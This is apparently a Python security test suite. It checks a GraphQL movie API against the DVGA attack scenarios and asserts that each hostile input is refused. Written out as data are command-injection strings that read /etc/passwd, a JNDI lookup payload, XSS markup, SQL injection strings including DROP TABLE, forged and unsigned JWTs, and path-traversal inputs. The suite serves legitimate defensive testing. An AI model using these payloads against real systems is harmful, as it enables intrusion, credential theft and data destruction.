"""Scenarios of DVGA that need a door: to a shell, a page, a log, another's account, a file."""

import logging
import re

import jwt

from api.auth import AUDIENCE, ISSUER
from api.documents import Documents
from tests.api.web import ALIEN, JSON, RATE, SECRET, TITLE, bearer, client_over, refused
from tests.trust.attacked import TAKING_TEXT, Target, commands, doings, everywhere, no_door, writes
from tests.trust.dvga import scenario

# -- code execution --------------------------------------------------------------------------------------------------


@scenario("OS Command Injection #1")
async def _(target: Target) -> None:
    """Its `importPaste` puts a path into a command; here no text comes near one."""
    with doings() as found:
        for text in ("/pastebin/raw/x; uname -a", "$(id)", "`id`", "| cat /etc/passwd", "&& id #", "\n id \n"):
            for one in await everywhere(target, text):
                assert not re.search(r"uid=\d|root:|Linux", one.text)
    assert commands(found) == []


@scenario("OS Command Injection #2")
async def _(target: Target) -> None:
    """Its `systemDiagnostics(cmd:)` is a shell behind a password; here administrators have none either."""
    no_door("cmd command exec execute shell system diagnostics health eval script debug")
    with doings() as found:
        for text in (
            "__import__('os').system('id')",
            "{{1337*7331}}",
            "${jndi:ldap://a.example/}",
            "!!python/object/apply:os.system ['id']",
        ):
            for one in await everywhere(target, text):
                assert "9801547" not in one.text
    assert commands(found) == []


# -- injection -------------------------------------------------------------------------------------------------------

MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</script><svg/onload=alert(1)>", "<h1>x</h1>")


@scenario("Stored Cross Site Scripting")
async def _(target: Target) -> None:
    """What a user can leave behind is the name in their token; it comes back as JSON, to that user alone."""
    for text in MARKUP:
        assert (await target.sent(RATE, bearer(text))).json()["data"]["rateMovie"]["__typename"] == "Rated"
        mine = await target.sent("{ me { id } }", bearer(text))
        assert mine.headers["content-type"] == JSON
        assert mine.json() == {"data": {"me": {"id": f"User:{text}"}}}
        other = await target.sent("query($id: ID!) { user(id: $id) { id } }", bearer("1"), variables={"id": text})
        assert "data" not in other.json() or other.json()["data"]["user"] is None


@scenario("Log spoofing / Log Injection")
async def _(target: Target) -> None:
    """A name of an operation, a header or a text with a line of its own is in no line of the log."""
    spoof = "getPaste\nWARNING:root: the server was stopped by admin"
    with target.caplog.at_level(logging.DEBUG, "cinegraph"):
        await target.sent("query getPasteSpoofed { movie(id: 1) { title } }", {"X-Request-Id": "aaaaaaaa bbbb"})
        await everywhere(target, spoof)
        await target.sent("{ nosuch }", operationName=spoof)
    lines = [one.getMessage() for one in target.caplog.records if one.name.startswith("cinegraph")]
    assert len([line for line in lines if ", request " in line]) > len(TAKING_TEXT)
    for line in lines:
        assert "stopped by admin" not in line
        assert "Spoofed" not in line
        assert "aaaaaaaa" not in line


@scenario("HTML Injection")
async def _(target: Target) -> None:
    """Whatever is echoed stands in JSON, whoever says that they take pages."""
    for text in MARKUP:
        await everywhere(target, text)
        page = await target.http.get("/graphql", params={"query": text}, headers={"Accept": "text/html"})
        assert page.headers["content-type"] == JSON
    async with client_over(target.services) as development:
        plain = await development.get("/")
        for text in MARKUP:
            asked = await development.get("/", params={"q": text, "title": text}, headers={"Referer": text})
            assert asked.content == plain.content


@scenario("SQL Injection")
async def _(target: Target) -> None:
    """Every argument with every payload is in `test_injection.py`; here are those of its `pastes(filter:)`."""
    wanted = (await target.sent(TAKING_TEXT["movie"], variables={"x": "nosuch"})).json()
    assert wanted == {"data": {"movie": None}}
    for text in ("aaa ' or 1=1--", "' UNION SELECT 1,2,3,4--", "1' OR '1'='1", "1; DROP TABLE users", "1\\' OR 1=1 #"):
        assert (await target.sent(TAKING_TEXT["movie"], variables={"x": text})).json() == wanted
        for one in await everywhere(target, text):
            assert not re.search(r"sqlite|syntax error|operational|near \"", one.text, re.I)


# -- authorization ---------------------------------------------------------------------------------------------------


@scenario("GraphQL JWT Token Forge")
async def _(target: Target) -> None:
    """Its server reads who it is from a token without looking at the signature."""
    no_door("token jwt session")
    good = bearer("2")["Authorization"].removeprefix("Bearer ")
    head, body, signature = good.split(".")
    claims = jwt.decode(good, SECRET, ["HS256"], audience=AUDIENCE, issuer=ISSUER)
    other = jwt.encode({**claims, "sub": "1", "admin": True}, b"x" * 32, "HS256").split(".")
    unsigned = jwt.encode({**claims, "sub": "1"}, None, "none")
    forged = [
        unsigned,
        unsigned.replace(unsigned.split(".")[0], head),
        f"{head}.{body}.",
        f"{head}.{other[1]}.{signature}",
        ".".join(other),
        jwt.encode({**claims, "sub": "1"}, SECRET * 2, "HS512"),
        jwt.encode({**claims, "iss": "elsewhere"}, SECRET, "HS256"),
        jwt.encode({**claims, "exp": 1}, SECRET, "HS256"),
        jwt.encode(claims, b"x" * 32, "HS256", headers={"kid": "../../dev/null"}),
    ]
    before = target.graph.session.statements
    for token in forged:
        found = await target.sent("{ me { id } }", {"Authorization": f"Bearer {token}"})
        refused(found, 401, "NOT_SIGNED_IN")
    assert target.graph.session.statements == before
    assert (await target.sent("{ me { id } }", {"Authorization": f"Bearer {good}"})).json() == {
        "data": {"me": {"id": "User:2"}}
    }


@scenario("GraphQL Interface Protection Bypass")
async def _(target: Target) -> None:
    """A cookie or a header that a client sets opens no interface."""
    for headers in (
        {"Cookie": "env=graphiql:enable"},
        {"Cookie": "graphiql=1; debug=1"},
        {"X-Forwarded-For": "127.0.0.1", "Host": "localhost"},
        {"User-Agent": "graphiql", "X-Debug": "1"},
    ):
        for path in ("/", "/graphiql", "/graphql?graphiql=1"):
            page = await target.http.get(path, headers={"Accept": "text/html", **headers})
            assert page.status_code in (403, 404, 406)
        body = (await target.sent("{ __schema { queryType { name } } }", headers)).json()
        assert "data" not in body


@scenario("GraphQL Query Deny List Bypass")
async def _(target: Target) -> None:
    """Its list of what is denied goes by names that clients give; here what is allowed is listed, by its text."""
    async with client_over(target.services, Documents({"a": f"query Allowed {TITLE}"}, only_trusted=True)) as http:
        before = target.graph.session.statements
        for query in (
            "query Allowed { genres { totalCount } }",
            "query Allowed { x: movie(id: 1) { title } }",
            "query Other { ...F } fragment F on Query { movie(id: 1) { title } }",
        ):
            for more in ({}, {"operationName": "Allowed"}, {"documentId": "b"}):
                found = await http.post("/graphql", json={"query": query, **more})
                refused(found, 403, "DOCUMENT_NOT_TRUSTED")
        assert target.graph.session.statements == before
        assert (await http.post("/graphql", json={"documentId": "a"})).json() == {"data": ALIEN}


# -- miscellaneous ---------------------------------------------------------------------------------------------------


@scenario("GraphQL Query Weak Password Protection")
async def _(target: Target) -> None:
    """There is no password to guess; what is secret is a token or an invitation, and a guess of one is none of it."""
    no_door("password passwd passphrase pin otp login credential secret")
    made = await target.sent("mutation { inviteToGroup { ... on InvitedToGroup { invitation } } }", bearer("2"))
    invitation = made.json()["data"]["inviteToGroup"].get("invitation", "")
    assert len(invitation) >= 40
    middle = len(invitation) // 2
    guesses = [invitation[:middle] + sign + invitation[middle + 1 :] for sign in "ABCDEFGHIJ"]
    guesses = [guess for guess in guesses if guess != invitation]
    for guess in guesses:
        body = (await target.sent(TAKING_TEXT["group"], bearer("1"), variables={"x": guess})).json()
        assert body["errors"][0]["extensions"]["code"] == "INVALID_INPUT"
    aliased = " ".join(f"a{i}: {TAKING_TEXT['movie'].partition('{')[2][:-1]}" for i in range(16))
    await target.limited(f"query($x: ID!) {{ {aliased} }}", variables={"x": "1"})


@scenario("Arbitrary File Write // Path Traversal")
async def _(target: Target) -> None:
    """Its `uploadPaste` writes where it is told to; here nothing is uploaded, written or read by a client's name."""
    no_door("upload file filename filepath directory folder content save import export")
    files = {"0": ("../../../../tmp/file.txt", b"hi")}
    with doings() as found:
        upload = await target.http.post("/graphql", data={"operations": "{}", "map": "{}"}, files=files)
        refused(upload, 415, "UNSUPPORTED_MEDIA_TYPE")
        for text in (
            "../../../../../../tmp/file.txt",
            "/etc/passwd",
            "..\\..\\x",
            "%2e%2e%2fx",
            "file:///etc/passwd",
            "a\0.txt",
        ):
            for one in await everywhere(target, text):
                assert "root:" not in one.text
    assert writes(found) == []
    async with client_over(target.services) as development:
        for path in ("..%2f..%2f..%2fpyproject.toml", "%2e%2e/%2e%2e/http.py", "..%5c..%5chttp.py", "%2fetc%2fpasswd"):
            assert (await development.get(f"/graphiql/{path}")).status_code == 404
